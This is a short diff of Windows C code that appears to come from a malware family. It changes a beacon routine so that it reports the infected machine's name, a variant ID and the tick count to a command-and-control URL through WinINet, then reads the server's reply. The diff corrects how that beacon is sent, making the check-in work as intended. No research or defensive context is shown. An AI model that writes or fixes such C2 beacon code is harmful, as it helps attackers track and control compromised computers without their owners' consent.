@@ -7,18 +7,17 @@
 
 static int family_run(void)
 {
-    char host[64], query[256];
+    char host[64], url[512];
     DWORD size = sizeof host, got = 0;
     char buf[512];
     HINTERNET net, req;
 
     GetComputerNameA(host, &size);
-    wsprintfA(query, CFG_BEACON_FMT, CFG_VARIANT, host, GetTickCount());
+    wsprintfA(url, "%s?" CFG_BEACON_FMT, CFG_C2_URL, CFG_VARIANT, host, GetTickCount());
     net = InternetOpenA(CFG_USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
     if (net == NULL)
         return 1;
-    req = InternetOpenUrlA(net, CFG_C2_URL, query, (DWORD)lstrlenA(query),
-                           INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE, 0);
+    req = InternetOpenUrlA(net, url, NULL, 0, INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE, 0);
     if (req != NULL) {
         InternetReadFile(req, buf, sizeof buf, &got);
         InternetCloseHandle(req);
